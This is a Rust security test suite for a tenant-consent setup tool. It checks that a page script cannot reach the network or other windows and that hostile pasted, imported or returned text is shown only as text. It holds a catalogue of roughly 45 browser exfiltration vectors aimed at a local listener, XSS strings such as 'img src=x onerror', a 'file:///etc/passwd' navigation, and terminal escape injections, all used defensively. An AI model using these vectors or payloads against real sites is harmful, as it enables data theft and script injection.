//! The page cannot get out of its window, whatever is done to it: no network, no other page, no second window; and
//! whatever is typed, brought in or answered is text. In the real window, by the script that a page taken over would run.
#![allow(clippy::unwrap_used, clippy::expect_used, reason = "a test that cannot set its scene has failed")]
#![allow(clippy::print_stdout, reason = "figures for whoever looks; no test depends on them")]
#![allow(clippy::too_many_lines, reason = "one way through every screen")]

use std::fmt::Write;
use std::io::{Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::sync::{Arc, Mutex};

use axum::Router;
use axum::body::Body;
use axum::extract::Request;
use axum::http::{Method, StatusCode};
use axum::middleware::{Next, from_fn};
use axum::response::Response;
use consentry_testbed::scene::{APP, HOME, SECRET, Scene};
use consentry_testbed::steps::{CHECK, add_customer};
use consentry_testbed::terminal::consentry;
use consentry_testbed::window::Window;
use consentry_testbed::{crowd, naughty, wait_for};
use serde_json::{Value, json};

/// Somebody who listens for requests that must not come.
struct Ear {
    address: String,
    heard: Arc<Mutex<Vec<String>>>,
}

impl Ear {
    fn listen() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap().to_string();
        let heard = Arc::new(Mutex::new(Vec::new()));
        let book = Arc::clone(&heard);
        std::thread::spawn(move || {
            for mut caller in listener.incoming().flatten() {
                let mut said = [0; 200];
                caller.set_read_timeout(Some(std::time::Duration::from_millis(300))).unwrap();
                let length = caller.read(&mut said).unwrap_or_default();
                let said = String::from_utf8_lossy(&said[..length]).into_owned();
                book.lock().unwrap().push(format!("a caller who said {said:?}"));
            }
        });
        Self { address, heard }
    }

    /// Nothing came; and what comes would be heard.
    fn heard_nothing(&self) {
        TcpStream::connect(&self.address).unwrap().write_all(b"the test").unwrap();
        let mine = |heard: &[String]| heard.iter().any(|one| one.contains("the test"));
        wait_for("the ear to hear", CHECK, || mine(&self.heard.lock().unwrap()).then_some(()));
        let heard = self.heard.lock().unwrap();
        assert_eq!(heard.len(), 1, "a request left the page: {heard:?}");
    }
}

/// Every way we know by which a page asks somebody else. Each is given time to fail.
const WAYS_OUT: &str = r"
    const done = arguments[0], at = 'BEACON', http = 'http://' + at;
    const refused = new Set();
    document.addEventListener('securitypolicyviolation', (event) => refused.add(event.effectiveDirective));
    const settled = (promise) => Promise.race([promise, new Promise((next) => setTimeout(next, 700))]).then((value) => String(value), (error) => error.name);
    const element = (name, attributes) => new Promise((next) => {
        const one = document.createElement(name);
        one.onload = () => next('loaded');
        one.onerror = () => next('refused');
        for (const [key, value] of Object.entries(attributes)) one.setAttribute(key, value);
        document.body.append(one);
    });
    const event = (one) => new Promise((next) => { one.onopen = () => next('opened'); one.onerror = () => next('refused'); one.onmessage = () => next('heard'); });
    const style = (text) => new Promise((next) => {
        const one = document.createElement('style');
        one.textContent = text;
        document.head.append(one);
        setTimeout(() => next('waited'), 100);
    });
    const ways = {
        fetch: () => fetch(http + '/fetch'),
        post: () => fetch(http + '/post', { method: 'POST', mode: 'no-cors', body: 'x' }),
        xhr: () => new Promise((next) => { const one = new XMLHttpRequest(); one.onload = () => next('loaded'); one.onerror = () => next('refused'); one.open('GET', http + '/xhr'); one.send(); }),
        socket: () => event(new WebSocket('ws://' + at + '/socket')),
        events: () => event(new EventSource(http + '/events')),
        beacon: () => Promise.resolve(navigator.sendBeacon(http + '/beacon', 'x')),
        image: () => element('img', { src: http + '/img.png' }),
        icon: () => element('link', { rel: 'icon', href: http + '/icon.png' }),
        sheet: () => element('link', { rel: 'stylesheet', href: http + '/sheet.css' }),
        prefetch: () => element('link', { rel: 'prefetch', href: http + '/prefetch' }),
        preload: () => element('link', { rel: 'preload', as: 'script', href: http + '/preload' }),
        preconnect: () => element('link', { rel: 'preconnect', href: http }),
        manifest: () => element('link', { rel: 'manifest', href: http + '/manifest' }),
        imported: () => style('@import url(' + http + '/import.css);'),
        background: () => style('body { background: url(' + http + '/background.png) }'),
        font: () => style('@font-face { font-family: evil; src: url(' + http + '/font) } body { font-family: evil }'),
        script: () => element('script', { src: http + '/script.js' }),
        module: () => import(http + '/module.js'),
        frame: () => element('iframe', { src: http + '/frame' }),
        framed: () => element('iframe', { srcdoc: '<img src=' + http + '/srcdoc.png>' }),
        object: () => element('object', { data: http + '/object' }),
        embed: () => element('embed', { src: http + '/embed' }),
        video: () => element('video', { src: http + '/video', autoplay: '' }),
        audio: () => element('audio', { src: http + '/audio', autoplay: '' }),
        poster: () => element('video', { poster: http + '/poster' }),
        drawing: () => { document.body.insertAdjacentHTML('beforeend', '<svg><image href=' + http + '/svg.png /><use href=' + http + '/use.svg#x /></svg>'); return 'drawn'; },
        worker: () => event(new Worker(http + '/worker.js')),
        shared: () => event(new SharedWorker(http + '/shared.js').port),
        service: () => navigator.serviceWorker.register(http + '/service.js'),
        blob: () => event(new Worker(URL.createObjectURL(new Blob(['fetch(\'' + http + '/blob\')'])))),
        peer: () => { const one = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + at }, { urls: 'turn:' + at + '?transport=tcp', username: 'u', credential: 'p' }] }); one.createDataChannel('x'); return one.createOffer().then((offer) => one.setLocalDescription(offer)); },
        form: () => { document.body.insertAdjacentHTML('beforeend', '<form id=out method=post action=' + http + '/form><input name=x></form>'); document.getElementById('out').submit(); return 'sent'; },
        ping: () => { document.body.insertAdjacentHTML('beforeend', '<a id=ping href=#x ping=' + http + '/ping>x</a>'); document.getElementById('ping').click(); return 'pressed'; },
        assign: () => { location.assign(http + '/assign'); return 'sent'; },
        replace: () => { location.replace(http + '/replace'); return 'sent'; },
        href: () => { location.href = http + '/href'; return 'sent'; },
        mail: () => { location.href = 'mailto:a@example.com'; return 'sent'; },
        file: () => { location.href = 'file:///etc/passwd'; return 'sent'; },
        data: () => { location.href = 'data:text/html,<script>1</script>'; return 'sent'; },
        opened: () => String(window.open(http + '/open')),
        named: () => { document.body.insertAdjacentHTML('beforeend', '<a id=blank target=_blank href=' + http + '/blank>x</a>'); document.getElementById('blank').click(); return 'pressed'; },
        refresh: () => { document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\'0;url=' + http + '/refresh\'>'); return 'put'; },
        base: () => { document.head.insertAdjacentHTML('beforeend', '<base href=' + http + '/>'); return element('img', { src: 'relative.png' }); },
        scripted: () => { document.body.insertAdjacentHTML('beforeend', '<a id=js href=\'javascript:window.owned=1\'>x</a><img src=x onerror=\'window.owned=1\'><svg onload=\'window.owned=1\'></svg>'); document.getElementById('js').click(); return element('iframe', { src: 'javascript:parent.owned=1' }); },
    };
    (async () => {
        const told = {};
        for (const [name, way] of Object.entries(ways)) {
            try { told[name] = await settled(Promise.resolve(way())); } catch (error) { told[name] = error.name; }
        }
        done({ told, refused: [...refused], at: location.href.split('#')[0], owned: window.owned ?? null });
    })();
";

#[test]
fn no_way_leads_out_of_the_page() {
    let scene = Scene::set();
    let ear = Ear::listen();
    let window = Window::open(&scene.session);
    let page = window.script("return location.href", vec![]);
    let found = window.script_with_callback(&WAYS_OUT.replace("BEACON", &ear.address));
    let told = found["told"].as_object().unwrap();
    assert!(told.len() > 40, "{found}");
    assert_eq!((&found["at"], &found["owned"]), (&page, &Value::Null), "{found}");
    // A frame that was refused says that it is there, empty; whether it asked is for the ear to say.
    for (way, outcome) in told.iter().filter(|(way, _)| !["frame", "scripted"].contains(&way.as_str())) {
        assert!(
            !["loaded", "opened", "heard"].contains(&outcome.as_str().unwrap()),
            "{way} led out: {found}"
        );
    }
    let refused = found["refused"].to_string();
    for rule in [
        "connect-src",
        "img-src",
        "style-src",
        "script-src",
        "frame-src",
        "object-src",
        "form-action",
        "base-uri",
    ] {
        assert!(refused.contains(rule), "{rule} was tried: {found}");
    }
    // The page is the same, and works.
    assert_eq!(
        window.script("return [location.href.split('#')[0], window.owned ?? null]", vec![]),
        json!([page, null])
    );
    window.press("start-setup");
    window.see("app-name");
    ear.heard_nothing();
    assert!(!scene.session.folder().join("opened").exists(), "no other program was started");
    assert_eq!((scene.microsoft.asked(), scene.microsoft.refused()), (vec![], vec![]));
    window.close();
}

/// Puts every text into every field that can be seen, as pasting does, and looks at what it became.
const INTO_EVERY_FIELD: &str = r"
    const done = arguments[0], texts = TEXTS;
    window.alert = window.confirm = window.prompt = () => { window.owned = 'a dialogue'; };
    const foreign = () => document.querySelectorAll('script:not([src]):not([type]), iframe, object, embed, base, meta[http-equiv=refresh], img[src=x], b, i, details[ontoggle], [onerror], [onload], [onclick], form[action*=http], a[href^=javascript], link[href*=http], style:not([data-known])').length;
    for (const one of document.querySelectorAll('style')) one.dataset.known = '1';
    const before = foreign();
    const fields = Array.from(document.querySelectorAll('input:not([type=checkbox]):not([type=radio]):not([type=file]):not([type=date]), textarea')).filter((one) => one.checkVisibility() && !one.disabled && !one.readOnly);
    (async () => {
        const wrong = [];
        for (const field of fields) {
            const kept = field.value;
            for (const text of texts) {
                if (!field.isConnected) break;
                field.value = text;
                field.dispatchEvent(new InputEvent('input', { bubbles: true, inputType: 'insertFromPaste' }));
                field.dispatchEvent(new Event('change', { bubbles: true }));
                await Promise.resolve();
                if (window.owned || foreign() !== before) { wrong.push([field.dataset.testid, text, String(window.owned)]); window.owned = undefined; }
            }
            field.value = kept;
            field.dispatchEvent(new InputEvent('input', { bubbles: true }));
            await new Promise((next) => setTimeout(next));
            if (window.owned || foreign() !== before) wrong.push([field.dataset.testid, 'at the end', String(window.owned)]);
        }
        done({ fields: fields.map((one) => one.dataset.testid ?? one.name), wrong });
    })();
";

fn into_every_field(window: &Window, texts: &[String], filled: &mut Vec<String>) {
    let script = INTO_EVERY_FIELD.replace("TEXTS", &serde_json::to_string(texts).unwrap());
    let found = window.script_with_callback(&script);
    assert_eq!(found["wrong"], json!([]), "{found}");
    let names: Vec<String> = serde_json::from_value(found["fields"].clone()).unwrap();
    assert!(!names.is_empty(), "a screen with fields");
    filled.extend(names);
}

#[test]
fn whatever_is_typed_brought_in_or_answered_is_text() {
    let ear = Ear::listen();
    let all: Vec<String> = naughty::texts(&ear.address).into_iter().map(|(_, text)| text).collect();
    // The long lane takes all of them; a third of each class is enough to notice a hole.
    let every = if std::env::var_os("CONSENTRY_LONG").is_some() { 1 } else { 3 };
    let texts: Vec<String> = all.iter().step_by(every).cloned().collect();
    // The core keeps the first 8 KiB of an answer.
    let (marked, others): (Vec<&String>, Vec<&String>) =
        all.iter().filter(|text| text.len() < 120).partition(|text| text.contains('<'));
    let answers = marked.into_iter().chain(others).map(String::as_str).collect::<Vec<_>>().join(" | ");
    let scene = Scene::with(move |router| hostile(router, &answers));
    let window = Window::open(&scene.session);
    let mut filled = Vec::new();
    window.press("start-setup");
    window.see("app-name");
    into_every_field(&window, &texts, &mut filled);
    window.fill("app-name", "<b>Northwind</b> & \"Co\"");
    window.press("next");
    window.see("app-id");
    into_every_field(&window, &texts, &mut filled);
    window.fill("app-id", APP);
    window.fill("home-tenant", HOME);
    window.press("next");
    window.see("permission-Alert.Read.All");
    into_every_field(&window, &texts, &mut filled);
    window.press("next");
    window.press("next");
    window.see("app-secret");
    into_every_field(&window, &texts, &mut filled);
    window.fill("app-secret", SECRET);
    window.press("save-app");
    window.see("secret-status");
    add_customer(&window, "all-well");
    window.press("back");
    into_every_field(&window, &texts, &mut filled);
    window.press("next");
    window.press("check-now");
    window.see_attribute("verdict", "data-verdict", "connected", CHECK);
    window.press("next");
    window.press("token-open");
    into_every_field(&window, &texts, &mut filled);
    window.press("next");
    window.press("use-api");
    window.see("send-call");
    window.choose("api-call", "machines.get");
    into_every_field(&window, &texts, &mut filled);
    window.press("back");
    window.press("open-diagnose");
    window.see("paste-box");
    into_every_field(&window, &texts, &mut filled);
    brought_in_and_answered(&scene, &window, &all);
    into_every_field(&window, &texts, &mut filled);
    filled.sort();
    filled.dedup();
    assert!(filled.len() >= 12, "{filled:?}");
    println!("fields: tried {0}, survived {0}, lost 0", filled.len() * texts.len());
    window.close();
    ear.heard_nothing();
    assert_eq!(scene.microsoft.refused(), []);
}

/// Customers whose names are hostile, and whose sign-in service answers in kind.
fn brought_in_and_answered(scene: &Scene, window: &Window, all: &[String]) {
    let names: Vec<&String> = all
        .iter()
        .filter(|text| text.len() < 120 && text.trim().len() > 1 && !text.contains(char::is_control))
        .collect();
    let mut list = String::from("Name;Tenant\n");
    for (number, name) in names.iter().enumerate() {
        let number = 8000 + u32::try_from(number).unwrap();
        writeln!(list, "\"{}\";{}", name.replace('"', "\"\""), crowd::tenant(number)).unwrap();
    }
    let file = scene.session.folder().join("home/customers.csv");
    std::fs::write(&file, list).unwrap();
    window.press("home");
    window.press_css("summary.btn");
    window.press("start-import");
    window.choose_file("import-file", &file);
    window.see("import-reading");
    if window.has("import-leave-out") {
        window.press("import-leave-out");
    }
    window.press("import-look-up");
    window.see("import-added");
    let added: usize = window.attribute("import-added", "data-added").unwrap().parse().unwrap();
    assert!(added > 150, "{added} of {}", names.len());
    window.press("import-show");
    window.see("customer-row");
    window.fill("board-search", "<img src=x onerror");
    window.until("one of them", CHECK, || {
        window.text("customer-row").contains("<img src=x onerror").then_some(())
    });
    window.press_css("[data-testid=\"customer-row\"]");
    window.press("check-now");
    window.see_attribute("verdict", "data-verdict", "needs_attention", CHECK);
    let shown = window.script("return document.body.textContent", vec![]);
    assert!(
        shown.as_str().unwrap().contains("<svg onload=window.owned=1>"),
        "the answer is shown as text: {shown}"
    );
    let made = window.script(
        "return [document.querySelectorAll('img[src=x], svg[onload], iframe, base').length, window.owned ?? null]",
        vec![],
    );
    assert_eq!(made, json!([0, null]));
    the_terminal_shows_text(scene);
    window.press("home");
    window.see("customer-row");
}

/// Whatever the service answered: nothing that could steer a terminal comes out.
fn the_terminal_shows_text(scene: &Scene) {
    let tenant = crowd::tenant(8000);
    let pasted =
        naughty::texts("192.0.2.1:9").into_iter().map(|(_, text)| text).collect::<Vec<_>>().join("\n");
    for (words, input) in [
        (vec!["check", "--customer", &tenant], ""),
        (vec!["check", "--customer", &tenant, "--json"], ""),
        (vec!["check", "--customer", "\u{1b}[31mnobody\u{202e}"], ""),
        (vec!["explain"], pasted.as_str()),
        (vec!["explain", "--lang", "sv", "--json"], pasted.as_str()),
        (vec!["link", "--app-id", "\u{1b}]0;x\u{7}"], ""),
    ] {
        let ended = consentry(&scene.session, &words, input);
        let said = ended.output + &ended.errors;
        let log = |line: &&str| line.contains(" consentry_") && line.contains('Z');
        let said: String = said.lines().filter(|line| !log(line)).collect::<Vec<_>>().join("\n");
        let steers = |c: char| {
            (c.is_control() && c != '\n') || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        };
        assert!(!said.contains(steers), "{words:?}: {:?}", said.chars().find(|c| steers(*c)));
    }
}

/// Those answers, and for the crowd from 8000 on a refusal whose every text is hostile.
fn hostile(router: Router, text: &str) -> Router {
    let text: Arc<str> = text.into();
    crowd::before(router).layer(from_fn(move |request: Request<Body>, next: Next| {
        let text = Arc::clone(&text);
        async move {
            let theirs = (8000..8300).map(crowd::tenant).any(|id| request.uri().path().contains(&id));
            if !theirs || request.method() != Method::POST {
                return next.run(request).await;
            }
            let body = json!({
                "error": format!("unauthorized_client {text}"), "error_codes": [700_016], "correlation_id": &*text,
                "error_description": format!("AADSTS700016: not found. {text}"), "trace_id": &*text,
            });
            Response::builder()
                .status(StatusCode::BAD_REQUEST)
                .header("content-type", "application/json")
                .body(Body::from(body.to_string()))
                .unwrap()
        }
    }))
}
